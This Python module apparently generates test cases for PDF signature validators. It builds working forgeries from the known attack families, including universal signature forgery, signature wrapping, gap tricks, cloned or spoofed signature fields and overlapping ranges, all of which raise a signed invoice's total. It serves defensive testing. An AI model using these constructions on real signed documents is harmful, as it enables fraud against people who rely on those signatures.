"""Attacks on the range and the value: USF (CCS 2019), SWA, gap collisions, shared and overlapping ranges, padding."""

import re

from . import base
from .case import Case
from .update import File, Signature


def _put(data: bytes, span: tuple[int, int], text: bytes) -> bytes:
    """In place, so that every offset behind it stays right."""
    start, end = span
    assert len(text) <= end - start
    return data[:start] + text.ljust(end - start) + data[end:]


def _forged(file: File) -> bytes:
    """The total changed in the signed bytes: what a broken range or value is to hide."""
    return file.data.replace(b"Total 1.250,00", b"Total 9.250,00", 1)


def universal(file: File, signer: str):
    """USF: the value or the range made unreadable, so that a careless reader skips the check."""
    sig, data = file.signature, _forged(file)
    value = (sig.gap[0], sig.gap[1])
    key = data.rindex(b"/Contents", 0, sig.gap[0])
    values = {
        "contents-empty": _put(data, value, b"<>"),
        "contents-zero": _put(data, value, b"<00>"),
        "contents-zeros": _put(data, value, b"<" + b"00" * sig.room + b">"),
        "contents-null": _put(data, value, b"null"),
        "contents-no-value": _put(data, value, b""),
        "contents-missing": _put(data, (key, sig.gap[1]), b""),
        "contents-number": _put(data, value, b"0"),
        "contents-other-key": data[:key] + b"/Kontents" + data[key + 9 :],
    }
    ranges = {
        "range-null": b"/ByteRange null",
        "range-empty": b"/ByteRange []",
        "range-zeros": b"/ByteRange [0 0 0 0]",
        "range-negative": b"/ByteRange [0 -1 0 -1]",
        "range-three": b"/ByteRange [0 %d %d]" % (sig.range[1], sig.range[2]),
        "range-no-value": b"/ByteRange",
        "range-missing": b"",
        "range-wide-gap": b"/ByteRange [0 10 %d %d]" % (len(data) - 10, 10),
        "range-beyond": b"/ByteRange [0 %d %d 99999999]" % (sig.range[1], sig.range[2]),
        "range-real": b"/ByteRange [0. 1. 2. 3.]",
    }
    made = values | {
        name: _put(data, sig.range_span, text)
        for name, text in ranges.items()
        if len(text) <= sig.range_span[1] - sig.range_span[0]
    }
    made["both-missing"] = _put(made["contents-missing"], sig.range_span, b"")
    made["both-null"] = _put(made["contents-null"], sig.range_span, b"/ByteRange []")
    for name, data in made.items():
        yield Case("usf", name, signer, data)


def wrapped(file: File, signer: str):
    """SWA: the second signed part moved to the end; what the attacker says stands in the widened gap."""
    sig, data = file.signature, file.data
    first, second = data[: sig.gap[0]], data[sig.gap[1] :]
    value = data[sig.gap[0] : sig.gap[1]]
    forged = file.text_of_stream(base.CONTENTS).replace(b"1.250,00", b"9.250,00")
    for name, tail in (("own-table", True), ("table-at-signed-offset", False)):
        # Twice: the range that is written depends on where the second part ends up.
        moved = 10**8
        for _ in range(2):
            out = bytearray(first + value)
            out += b" /ByteRange [0 %d %d %d] >>\nendobj\n" % (len(first), moved, len(second))
            place = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (base.CONTENTS, base.stream(forged))
            signed_table = int(re.search(rb"startxref\s+(\d+)", data[data.rfind(b"startxref") :]).group(1))
            at = len(out)
            if not tail:
                if signed_table < at:
                    return
                out = out.ljust(signed_table)
                at = signed_table
            table = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (base.CONTENTS, place)
            table += b"%d 1\n%010d 00000 n \n" % (file.signature_object, data.rindex(b"%d 0 obj" % file.signature_object))
            table += file.rows_after(sig.gap[1])
            out += table + file.trailer(previous=file.before_last()) + b"startxref\n%d\n%%%%EOF\n" % at
            moved = len(out)
        yield Case("swa", name, signer, bytes(out) + second)
    # The original range stays, and the attacker's stands before it under an escaped name.
    out = _put(data, sig.range_span, b"/Byte#52ange [0 0 0 0]") if sig.range_span[1] - sig.range_span[0] >= 23 else data
    if out != data:
        yield Case("swa", "escaped-key", signer, out)


def gap(file: File, signer: str):
    """The unsigned gap holds more than the value."""
    sig, data = file.signature, file.data
    widened = b"/ByteRange [0 %d %d %d]" % (sig.range[1] - 11, sig.range[2], sig.range[3])
    yield Case("gap", "begins-early", signer, _put(data, sig.range_span, widened))
    value = data[sig.gap[0] : sig.gap[1]]
    used = 1 + 2 * len(sig.value)
    if sig.room - len(sig.value) > 64:
        other = value[:used] + b"> /Reason (Not the signed reason) /X <"
        yield Case(
            "gap", "key-in-the-gap", signer, data[: sig.gap[0]] + other.ljust(len(value) - 1, b"0") + b">" + data[sig.gap[1] :]
        )
        second = value[:used] + b"> /Contents <3000"
        yield Case(
            "gap", "second-contents", signer, data[: sig.gap[0]] + second.ljust(len(value) - 1, b"0") + b">" + data[sig.gap[1] :]
        )


def clones(file: File, signer: str):
    """ISA H and I, and DSS-2451: another dictionary with the same range or value."""
    number = file.signature_object
    sig = file.signature
    held = b"/ByteRange [%d %d %d %d]" % tuple(sig.range)
    value = file.data[sig.gap[0] : sig.gap[1]]
    clone = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (Another Person) %s /Contents %s >>" % (
        held,
        value,
    )
    other, field = file.new(), file.new()
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Clone) /F 132 /P %d 0 R /Rect [0 0 0 0] /V %d 0 R >>" % (
        base.PAGE,
        other,
    )
    form = file.form()
    fields = file.array(form, "/Fields") + b" %d 0 R" % field
    both = {other: clone, field: widget, form: file.with_keys(form, Fields=b"[%s]" % fields)}
    yield Case("clone", "second-field-same-range", signer, file.update(both))
    over = {number: clone}
    yield Case("clone", "override-name", signer, file.update(over))
    yield Case(
        "clone",
        "field-points-to-clone",
        signer,
        file.update({other: clone, file.signature_field: file.with_keys(file.signature_field, V=b"%d 0 R" % other)}),
    )
    spoofed = {
        "reason": {"Reason": b"(I agree to pay)"},
        "name": {"Name": b"(Another Person)"},
        "date": {"M": b"(D:20200101000000Z)"},
        "location": {"Location": b"(Elsewhere)"},
    }
    for what, keys in spoofed.items():
        yield Case("spoofed", what, signer, file.update({number: file.dictionary_of_signature(**keys)}))


def overlapping(file: File, signer: str):
    """A second signature whose gap reaches into what the first one signed."""
    sig = file.signature
    other, field = file.new(), file.new()
    form = file.form()
    fields = file.array(form, "/Fields") + b" %d 0 R" % field
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Over) /F 132 /P %d 0 R /Rect [0 0 0 0] /V %d 0 R >>" % (
        base.PAGE,
        other,
    )
    shape = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 %010d %010d %010d] /Contents <%s> >>"
    )
    objects = {other: shape % (0, 0, 0, b"00" * 8192), field: widget, form: file.with_keys(form, Fields=b"[%s]" % fields)}
    data = file.update(objects)
    end = data.rindex(b"> >>") + 1
    for name, start in (("gap-over-first-value", sig.gap[0]), ("gap-from-second-part", sig.gap[1] + 40)):
        text = b"/ByteRange [0 %010d %010d %010d]" % (start, end, len(data) - end)
        at = data.rindex(b"/ByteRange")
        changed = data[:at] + text + data[at + len(text) :]
        from .values import detached

        signed = detached(changed[:start] + changed[end:])
        begin = changed.rindex(b"/Contents <") + 11
        filled = signed.hex().encode().ljust(8192 * 2, b"0")
        yield Case("overlap", name, signer, changed[:begin] + filled + changed[begin + len(filled) :])


def padding(file: File, signer: str):
    """Bytes behind the value, unsigned: nothing is shown otherwise, but whoever looks must be told."""
    sig = file.signature
    if sig.room - len(sig.value) > 200:
        yield Case(
            "padding",
            "text-behind-the-value",
            signer,
            sig.with_value(file.data, sig.value, b"hidden message"),
            "named",
            "signature_padding",
        )


def damaged(file: File, signer: str):
    """Signed bytes that were changed."""
    yield Case("digest", "total-changed-in-place", signer, _forged(file))
    data = bytearray(file.data)
    data[file.data.index(b"Payable")] ^= 1
    yield Case("digest", "one-bit-on-page-two", signer, bytes(data))
    title = file.data.replace(b"(Invoice)", b"(Receipt)", 1)
    yield Case("digest", "title-changed", signer, title)
    assert Signature(bytes(data)).range == file.signature.range
